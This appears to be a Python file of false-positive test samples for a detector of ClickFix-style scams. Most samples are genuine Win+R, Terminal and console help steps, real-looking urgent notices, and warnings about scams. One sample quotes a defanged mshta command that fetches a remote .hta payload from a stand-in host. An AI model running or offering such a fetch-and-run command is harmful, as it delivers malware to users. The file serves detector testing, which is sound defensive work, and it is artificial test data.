"""fpover19 texts: genuine step-by-step help that names the same keys and places lures do (Win+R,
Terminal, the console), urgent genuine notices, pages that describe scams (own words)."""

from fp19_data import each

STEPS = [
    *each(
        "https://help.minecraft.net/hc/en-us/articles/360035131651",
        "other",
        "1. Close the launcher.\n2. Press Windows key + R, type %appdata% and press Enter.\n3. Open the .minecraft folder and delete the 'versions' folder.\n4. Start the launcher again; it downloads the game files fresh.",
    ),
    *each(
        "https://support.microsoft.com/en-us/windows/fix-network-connection-issues-in-windows",
        "other",
        "Select Start, type cmd, right-click Command Prompt and choose Run as administrator. Then type each of these and press Enter after each one:\n\nnetsh winsock reset\nnetsh int ip reset\nipconfig /release\nipconfig /renew\nipconfig /flushdns",
        "To open Disk Cleanup, press Windows logo key + R, type cleanmgr and select OK. Choose the drive you want to clean up, then select OK.",
    ),
    *each(
        "https://discord.com/channels/480123456789012345/480123456789012347",
        "other",
        "ok try this: Win+R → type %localappdata%\\Discord → delete the 'Cache' and 'Code Cache' folders → restart discord. fixed it for me 👍",
        "bro just do win + r, type `dxdiag`, hit enter and screenshot the display tab so we can see your GPU driver",
        "if the game won't launch press Win+R and paste this: steam://validate/1091500 — it re-checks the files",
        "press win+r, type shell:startup and drag the shortcut in there, then it starts with windows",
    ),
    *each(
        "https://www.reddit.com/r/techsupport/comments/1h3k2j1/wifi_keeps_dropping/",
        "other",
        "Open Command Prompt as admin (Win+X → Terminal (Admin)) and run `netsh wlan show drivers`. If 'Radio types supported' doesn't list 802.11ax your adapter is Wi-Fi 5 only. Also try `powercfg /energy` and check the report for the wireless adapter.",
        "Hit Win+R, type `msconfig`, go to the Boot tab and untick 'Safe boot'. That's why it keeps booting into safe mode.",
        "Press Win+R and type `resmon`. In the Disk tab sort by Total (B/sec) — whatever is at the top is your 100% disk culprit.",
    ),
    *each(
        "https://support.apple.com/en-us/102440",
        "other",
        "Open Terminal (in Applications > Utilities), then enter this command and press Return:\n\nsudo softwareupdate --install-rosetta\n\nEnter your administrator password when asked. Nothing is shown while you type it.",
    ),
    *each(
        "https://www.macworld.com/article/flush-dns-cache-mac",
        "other",
        "Open Terminal, paste the following and press Return, then type your Mac password: sudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder",
    ),
    *each(
        "https://forum.pcgamingwiki.com/topic/8812-crash-on-start/",
        "other",
        "Fix that worked: open PowerShell as admin and run `sfc /scannow`, then `DISM /Online /Cleanup-Image /RestoreHealth`, reboot, and reinstall the Visual C++ redistributables from Microsoft's site.",
    ),
    *each(
        "https://www.computerbase.de/forum/threads/wlan-bricht-ab.2219834/",
        "other",
        "Drück Win+R, gib `devmgmt.msc` ein und schau unter Netzwerkadapter, ob da ein gelbes Ausrufezeichen ist. Wenn ja: Rechtsklick → Treiber aktualisieren.",
        "Öffne die Eingabeaufforderung als Admin und gib `chkdsk C: /f` ein. Beim nächsten Neustart wird die Platte geprüft.",
    ),
    *each(
        "https://forum.hardware.fr/hfr/WindowsSoftware/probleme-demarrage-sujet_123456_1.htm",
        "other",
        "Fais Windows + R, tape `msconfig`, onglet Services, coche « Masquer tous les services Microsoft » puis « Tout désactiver ». Redémarre et regarde si le problème persiste.",
    ),
    *each(
        "https://www.forocoches.com/foro/showthread.php?t=9876543",
        "other",
        "Pulsa Windows + R, escribe `%temp%` y borra todo lo que puedas de esa carpeta. Luego ejecuta `cleanmgr` y marca «Archivos temporales».",
    ),
    *each(
        "https://www.clubedohardware.com.br/forums/topic/1654321-pc-lento/",
        "other",
        "Aperta Windows + R, digita `msinfo32` e manda print da tela de Resumo do Sistema pra gente ver a configuração.",
    ),
    *each(
        "https://qiita.com/example/items/4f1e2d3c4b5a69788796",
        "other",
        "Win + R で「ファイル名を指定して実行」を開き、`control` と入力して Enter。コントロールパネルから「プログラムと機能」を開き、古いバージョンをアンインストールします。",
    ),
    *each(
        "https://zhuanlan.zhihu.com/p/712345678",
        "other",
        "按 Win+R 打开运行窗口，输入 `services.msc` 回车，找到 Windows Update 服务，右键选择重新启动即可。",
    ),
    *each(
        "https://www.technopat.net/sosyal/konu/internet-yavas.2412345/",
        "other",
        "Win+R'ye basın, `cmd` yazın ve açılan pencerede `ipconfig /flushdns` komutunu çalıştırın. Sonra modemi yeniden başlatın.",
    ),
    *each(
        "https://forum.chip.pl/topic/312345-wolny-komputer/",
        "other",
        "Wciśnij Win+R, wpisz `perfmon /report` i poczekaj minutę. Raport pokaże, co obciąża system.",
    ),
    *each(
        "https://www.cyberforum.ru/windows10/thread3187654.html",
        "other",
        "Нажмите Win+R, введите `eventvwr.msc` и посмотрите журнал «Система» за время падения. Скиньте сюда код ошибки.",
    ),
    *each(
        "https://developer.chrome.com/docs/devtools/open",
        "other",
        "To open the Console, press Control+Shift+J (Windows, Linux, ChromeOS) or Command+Option+J (Mac). Type `document.title` and press Enter to see the page's title.",
    ),
    *each(
        "https://support.google.com/chrome/thread/284512345",
        "other",
        "Open chrome://settings/clearBrowserData, pick 'All time', tick Cookies and Cached images, then Clear data. If the page still loops, try chrome://net-internals/#dns and click Clear host cache.",
    ),
]

URGENT_GENUINE = [
    *each(
        "https://outlook.live.com/mail/0/inbox",
        "other",
        "Important: your Microsoft 365 Family subscription ends on 20 December. To keep using Word, Excel and 1 TB of OneDrive storage, turn on recurring billing at account.microsoft.com/services. If you don't, your files stay safe but you won't be able to edit them.",
        "Action required: verify your domain acme-bakery.example for Google Workspace within 7 days by adding this TXT record at your DNS host: google-site-verification=4f1e2d3c4b5a69788796a5b4c3d2e1f0. Help: support.google.com/a/answer/183895",
        "Urgent: the SSL certificate for shop.acme.example expires in 3 days (Dec 10). Auto-renew failed because the DNS validation record is missing. Add _acme-challenge.shop CNAME 8f2c.dcv.example-ca.net or renew in your dashboard.",
        "Your Apple ID was used to sign in to iCloud on a Windows PC. Date and time: Dec 6, 2024, 9:12 AM PST. If you signed in recently, you can ignore this email. If you didn't, change your password at appleid.apple.com.",
        "Netflix: Your payment was declined. We'll try again in a few days. To avoid interruption, update your payment details in Account > Membership at netflix.com. Netflix will never ask for your card details by email.",
        "GitHub: [acme/api] A personal access token with 'repo' scope was found in a public commit (a1b2c3d). We have revoked it. Please review your security log at github.com/settings/security-log.",
        "AWS Notification: Your AWS account 123456789012 has an IAM access key (AKIA...7Q2M) that is exposed publicly on GitHub. We have applied the AWSCompromisedKeyQuarantineV2 policy. Rotate the key and review CloudTrail now. Open a support case if you need help.",
        "Your Norton 360 subscription renewed for $109.99 on Dec 5. Manage auto-renewal or request a refund within 60 days in your Norton account at my.norton.com.",
        "ATTENTION: Tenant maintenance notice — water will be shut off Tuesday 10am–2pm for a valve repair in building B. Please store some water in advance. Property office: (512) 555-0176.",
        "Your Google Account storage is 95% full. Gmail may stop receiving email. Free up space or get more storage with Google One at one.google.com/storage.",
        "IMPORTANTE: Su DNI electrónico caduca el 15/01/2025. Pida cita para renovarlo en www.citapreviadnie.es o llamando al 060.",
        "Wichtig: Ihre Kfz-Versicherung bei der HUK-COBURG wird zum 01.01. um 38,20 € teurer. Sie haben ein Sonderkündigungsrecht bis 31.12. Fragen: 09561 96-0.",
    ),
]

ABOUT_SCAMS = [
    *each(
        "https://support.microsoft.com/en-us/windows/protect-yourself-from-tech-support-scams-2ebf91bd-f94c-2a8a-e541-f5c800d18435",
        "other",
        "Microsoft does not send unsolicited email messages or make unsolicited phone calls to request personal or financial information, or to provide technical support to fix your computer. Error and warning messages on Windows never include phone numbers.",
    ),
    *each(
        "https://consumer.ftc.gov/articles/how-spot-avoid-and-report-tech-support-scams",
        "other",
        "Tech support scammers want you to pay them to fix a problem that doesn't exist. If you get a pop-up with a number to call, don't call it. Real security warnings and messages will never ask you to call a phone number.",
    ),
    *each(
        "https://www.bsi.bund.de/DE/Themen/Verbraucherinnen-und-Verbraucher/Cyber-Sicherheitslage/Methoden-der-Cyber-Kriminalitaet/",
        "other",
        "Bei sogenannten ClickFix-Angriffen fordert eine gefälschte Webseite Sie auf, Windows-Taste + R zu drücken, mit Strg + V etwas einzufügen und Enter zu drücken. Tun Sie das nie: Keine echte Prüfung, ob Sie ein Mensch sind, verlangt so etwas.",
    ),
    *each(
        "https://www.cisa.gov/news-events/news/avoiding-social-engineering-and-phishing-attacks",
        "other",
        "Be suspicious of unsolicited phone calls, visits, or email messages from individuals asking about employees or other internal information. Do not provide personal information or information about your organization unless you are certain of a person's authority to have the information.",
    ),
    *each(
        "https://www.ncsc.gov.uk/collection/phishing-scams",
        "other",
        "If you've received a suspicious text, forward it to 7726 (free of charge). Your provider can investigate the origin and block the sender if it's malicious. Suspicious emails can be forwarded to report@phishing.gov.uk.",
    ),
    *each(
        "https://blog.acme-security.example/clickfix-captcha-2024",
        "other",
        "The fake CAPTCHA asks the visitor to press Win+R, then Ctrl+V, then Enter. The clipboard holds an mshta command pointing at a remote .hta file (defanged: mshta hxxps://captcha-verify[.]example/v). Defenders can block mshta.exe via AppLocker or WDAC, and monitor RunMRU registry writes.",
    ),
]

ONBOARDING = [
    *each(
        "https://outlook.office.com/mail/inbox",
        "other",
        "Welcome to Acme! Your laptop is ready. Before your first day:\n1. Sign in with jdoe@acme.example and the temporary password from your manager.\n2. Set up Microsoft Authenticator at aka.ms/mfasetup.\n3. Open Company Portal and install 'Acme VPN' and 'Slack'.\nIT Service Desk: servicedesk@acme.example, ext. 4357.",
        "New engineers: clone the monorepo and bootstrap your machine with\n\n  git clone git@github.com:acme/monorepo.git && cd monorepo && ./tools/bootstrap.sh\n\nIt installs Homebrew packages from Brewfile, sets up pre-commit and asks for your GitHub SSO once.",
        "Hi Sam, as discussed: to get access to the analytics warehouse run `gcloud auth login` with your @acme.example account, then `gcloud config set project acme-data-prod-4821`. Your IAM role was approved in ticket ACC-2291.",
    ),
]
